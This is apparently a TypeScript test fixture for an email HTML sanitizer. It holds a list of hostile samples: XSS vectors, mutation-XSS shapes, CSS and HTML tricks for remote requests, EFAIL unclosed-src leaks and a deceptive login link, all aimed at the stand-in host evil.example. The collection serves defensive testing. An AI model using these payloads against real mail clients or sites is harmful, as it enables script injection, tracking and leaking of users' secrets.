/**
 * Hostile mail HTML for the sanitizer specs: the OWASP XSS filter evasion cheat sheet's items that
 * still matter in a modern engine, known DOMPurify mutation-XSS shapes, and every way we know for
 * HTML or CSS to make a request (tracking pixels, srcset, image-set, CSS url() escaped or not,
 * @import, @font-face, media posters, forms, meta refresh, base href, EFAIL's unclosed src).
 *
 * Scripts that would run set `window.__xss`; every URL points at EVIL_ORIGIN, a loopback
 * address, or is relative, so any request at all shows a leak.
 */
export const EVIL_ORIGIN = 'http://evil.example';
const E = EVIL_ORIGIN;
const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';

export interface HostileSample {
  name: string;
  html: string;
}

export const HOSTILE_SAMPLES: HostileSample[] = [
  // Scripts and event handlers.
  { name: 'script element', html: '<script>window.__xss = 1</script><p>text</p>' },
  { name: 'script with src', html: `<SCRIPT/XSS SRC="${E}/xss.js"></SCRIPT>` },
  { name: 'img onerror', html: '<img src=x onerror="window.__xss = 1">' },
  { name: 'body onload', html: '<body onload="window.__xss = 1"><p>body</p></body>' },
  { name: 'svg onload', html: '<svg/onload="window.__xss = 1">' },
  { name: 'svg script', html: '<svg><script>window.__xss = 1</script></svg>' },
  { name: 'svg animate onbegin', html: '<svg><animate onbegin="window.__xss = 1" attributeName="x" dur="1s"/></svg>' },
  {
    name: 'svg foreignObject',
    html: `<svg><foreignObject><img src="${E}/foreign.png"><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'svg image href', html: `<svg><image href="${E}/svg-image.png" width="10" height="10"/></svg>` },
  { name: 'details ontoggle', html: '<details open ontoggle="window.__xss = 1"><summary>s</summary></details>' },
  { name: 'autofocus onfocus', html: '<input autofocus onfocus="window.__xss = 1">' },
  { name: 'div onmouseover', html: '<div onmouseover="window.__xss = 1" style="width:100px;height:100px">hover</div>' },
  { name: 'marquee onstart', html: '<marquee onstart="window.__xss = 1">m</marquee>' },
  { name: 'double open bracket', html: '<<SCRIPT>window.__xss = 1;//\\<</SCRIPT>' },
  { name: 'quotes confusion', html: '<IMG """><SCRIPT>window.__xss = 1</SCRIPT>">' },
  { name: 'malformed a', html: '<a onmouseover="window.__xss = 1">xxs link</a>' },
  // javascript: and data: URLs.
  { name: 'javascript link', html: '<a href="javascript:window.__xss = 1">click</a>' },
  { name: 'javascript mixed case', html: '<a href=" JaVaScRiPt:window.__xss = 1">click</a>' },
  {
    name: 'javascript entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">e</a>',
  },
  { name: 'javascript tab', html: '<a href="jav&#x09;ascript:window.__xss = 1">tab</a>' },
  { name: 'javascript img', html: '<IMG SRC=JaVaScRiPt:window.__xss=1>' },
  { name: 'data html link', html: '<a href="data:text/html,<script>parent.__xss=1</script>">data</a>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">vb</a>' },
  // Frames, objects, embeds.
  { name: 'iframe src', html: `<iframe src="${E}/frame.html"></iframe>` },
  { name: 'iframe javascript', html: '<IFRAME SRC="javascript:parent.__xss=1;"></IFRAME>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>' },
  { name: 'frameset', html: `<FRAMESET><FRAME SRC="${E}/frame2.html"></FRAMESET>` },
  { name: 'object data', html: `<object data="${E}/object.swf"></object>` },
  {
    name: 'object data url',
    html: '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="></object>',
  },
  { name: 'embed', html: `<EMBED SRC="${E}/embed.svg" type="image/svg+xml">` },
  // Remote images: pixels, srcset, picture, legacy attributes, relative and protocol-relative URLs.
  { name: 'tracking pixel', html: `<img src="${E}/pixel.gif" width="1" height="1" alt="">` },
  { name: 'lazy pixel', html: `<img src="https://evil.example/lazy.png" loading="lazy">` },
  { name: 'loopback pixel', html: '<img src="http://127.0.0.1:9/loopback.png">' },
  { name: 'relative image', html: '<img src="/relative.png"><img src="relative2.png">' },
  { name: 'protocol-relative image', html: '<img src="//evil.example/protocol-relative.png">' },
  { name: 'srcset', html: `<img srcset="${E}/a.png 1x, ${E}/b.png 2x">` },
  { name: 'srcset beside inline src', html: `<img src="${PIXEL}" srcset="${E}/srcset-2x.png 2x">` },
  { name: 'picture source', html: `<picture><source srcset="${E}/picture.webp"><img src="${PIXEL}"></picture>` },
  { name: 'input image', html: `<INPUT TYPE="IMAGE" SRC="${E}/input.png">` },
  { name: 'lowsrc dynsrc', html: `<img lowsrc="${E}/lowsrc.png" dynsrc="${E}/dynsrc.avi">` },
  {
    name: 'table background',
    html: `<table background="${E}/table.png"><tr><td background="${E}/td.png">x</td></tr></table>`,
  },
  { name: 'cid image', html: '<img src="cid:part1.abc@example.org">' },
  { name: 'image with ping link', html: `<a ping="${E}/ping" href="https://good.example/">ping</a>` },
  { name: 'bgsound', html: `<BGSOUND SRC="${E}/sound.wav">` },
  // Media.
  { name: 'video poster', html: `<video poster="${E}/poster.png" src="${E}/video.mp4"></video>` },
  { name: 'audio source', html: `<audio autoplay><source src="${E}/audio.mp3"></audio>` },
  { name: 'track', html: `<video><track src="${E}/track.vtt" default></video>` },
  // CSS in style attributes.
  {
    name: 'style background url',
    html: `<div style="background-image:url(${E}/bg.png);width:10px;height:10px">x</div>`,
  },
  {
    name: 'style escaped url',
    html: `<div style="background:u\\72l(${E}/escaped.png);width:10px;height:10px">x</div>`,
  },
  {
    name: 'style hex escapes',
    html: `<div style="background-image:\\0075\\0072\\006C\\0028${E}/hex.png\\0029;width:10px;height:10px">x</div>`,
  },
  { name: 'style entity quotes', html: `<div style="background:url(&quot;${E}/entity.png&quot;);height:10px">x</div>` },
  {
    name: 'style image-set',
    html: `<div style="background-image:image-set('${E}/image-set.png' 1x);height:10px">x</div>`,
  },
  {
    name: 'style -webkit-image-set',
    html: `<div style="background-image:-webkit-image-set(url(${E}/webkit-image-set.png) 1x);height:10px">x</div>`,
  },
  { name: 'style cursor', html: `<div style="cursor:url(${E}/cursor.cur),auto;height:10px">x</div>` },
  { name: 'style list-style-image', html: `<ul style="list-style-image:url(${E}/list.png)"><li>x</li></ul>` },
  { name: 'style border-image', html: `<div style="border:5px solid;border-image:url(${E}/border.png) 30">x</div>` },
  {
    name: 'style mask',
    html: `<div style="-webkit-mask-image:url(${E}/mask.png);mask-image:url(${E}/mask2.png)">x</div>`,
  },
  {
    name: 'style custom property',
    html: `<div style="--u:url(${E}/var.png);background-image:var(--u);height:10px">x</div>`,
  },
  { name: 'style breaking out', html: `<div style="color:red}*{background:url(${E}/breakout.png)">x</div>` },
  { name: 'style expression', html: '<IMG STYLE="xss:expr/*XSS*/ession(window.__xss=1)">' },
  { name: 'style javascript url', html: '<DIV STYLE="background-image: url(javascript:window.__xss=1)">x</DIV>' },
  {
    name: 'style behavior and binding',
    html: `<div style="behavior:url(${E}/x.htc);-moz-binding:url(${E}/x.xml#x)">x</div>`,
  },
  // CSS in <style> elements.
  { name: 'stylesheet url', html: `<style>body{background:url("${E}/sheet.png")}</style><p>x</p>` },
  { name: 'stylesheet import', html: `<style>@import url(${E}/import.css);p{color:red}</style><p>x</p>` },
  { name: 'stylesheet import string', html: `<STYLE>@import'${E}/import2.css';</STYLE>` },
  { name: 'stylesheet escaped import', html: `<style>@\\69mport url(${E}/import3.css);</style>` },
  {
    name: 'stylesheet font-face',
    html: `<style>@font-face{font-family:evil;src:url(${E}/font.woff2)}p{font-family:evil}</style><p>font</p>`,
  },
  {
    name: 'stylesheet media',
    html: `<style>@media screen{div.m{background:url(${E}/media.png);height:10px}}</style><div class="m">m</div>`,
  },
  {
    name: 'stylesheet supports',
    html: `<style>@supports (display:grid){div.s{background:url(${E}/supports.png);height:10px}}</style><div class="s">s</div>`,
  },
  {
    name: 'stylesheet nesting',
    html: `<style>div.n{height:10px; & span{display:block;height:10px;background:url(${E}/nested.png)}}</style><div class="n"><span>n</span></div>`,
  },
  {
    name: 'stylesheet escaped url',
    html: `<style>div.e{height:10px;background:\\75 rl(${E}/sheet-escaped.png)}</style><div class="e">e</div>`,
  },
  {
    name: 'stylesheet image-set',
    html: `<style>div.i{height:10px;background-image:-webkit-image-set("${E}/sheet-image-set.png" 1x)}</style><div class="i">i</div>`,
  },
  {
    name: 'stylesheet variable',
    html: `<style>:root{--evil:url(${E}/root-var.png)} div.v{height:10px;background:var(--evil)}</style><div class="v">v</div>`,
  },
  {
    name: 'stylesheet keyframes',
    html: `<style>@keyframes k{from{background:url(${E}/keyframes.png)}}div.k{height:10px;animation:k 1s infinite}</style><div class="k">k</div>`,
  },
  {
    name: 'stylesheet counter-style',
    html: `<style>@counter-style evil{system:cyclic;symbols:url(${E}/counter.png);suffix:" "}ul.c{list-style:evil}</style><ul class="c"><li>c</li></ul>`,
  },
  { name: 'stylesheet moz-binding', html: `<STYLE>BODY{-moz-binding:url("${E}/xssmoz.xml#xss")}</STYLE>` },
  // Navigation, forms, base, meta.
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=${E}/refresh">` },
  { name: 'meta link header', html: `<META HTTP-EQUIV="Link" Content="<${E}/link-header.css>; REL=stylesheet">` },
  { name: 'meta set-cookie', html: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>window.__xss=1</SCRIPT>">' },
  { name: 'base href', html: `<base href="${E}/"><img src="based.png"><a href="based-link">b</a>` },
  { name: 'link stylesheet', html: `<link rel="stylesheet" href="${E}/link.css">` },
  {
    name: 'link prefetch',
    html: `<link rel="prefetch" href="${E}/prefetch"><link rel="dns-prefetch" href="//dns.evil.example">`,
  },
  { name: 'link javascript', html: '<LINK REL="stylesheet" HREF="javascript:window.__xss=1;">' },
  {
    name: 'form',
    html: `<form action="${E}/form" method="post"><input name="q" value="secret"><button type="submit" formaction="${E}/formaction">go</button></form>`,
  },
  { name: 'isindex and keygen', html: `<isindex action="${E}/isindex"><keygen autofocus onfocus="window.__xss=1">` },
  // Mutation XSS shapes that broke sanitizers before.
  {
    name: 'mxss noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
  },
  {
    name: 'mxss math mglyph',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1></style></mglyph></table></mtext></math>',
  },
  {
    name: 'mxss svg style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  },
  { name: 'mxss template', html: '<template><img src=x onerror=window.__xss=1></template>' },
  { name: 'xmp', html: '<xmp><img src=x onerror=window.__xss=1></xmp>' },
  // EFAIL (CVE-2017-17688): an unclosed src swallows what follows into a URL.
  {
    name: 'efail unclosed img src',
    html: `<img src="${E}/efail?secret=\n<p>The decrypted secret text</p>\n</body></html>`,
  },
  { name: 'efail unclosed background', html: `<table background='${E}/efail2?\nsecret plaintext follows` },
];

/** A harmless message with a deceptive link, a real link, remote and inline images and styles. */
export const NEWSLETTER_HTML = [
  '<style>.card{border:1px solid #ddd;padding:12px;border-radius:8px} h1{color:#1d4ed8}</style>',
  '<div class="card"><h1>Spring newsletter</h1>',
  `<p><img src="${PIXEL}" width="16" height="16" alt="dot"> Inline image stays.</p>`,
  `<p><img src="${E}/banner.png" alt="Banner from the sender" width="120" height="40"></p>`,
  '<p>Sign in at <a href="https://bank.evil.example/login">https://www.bank.example/login</a> ',
  'or read <a href="https://news.example.org/spring">the full story</a>.</p></div>',
].join('');
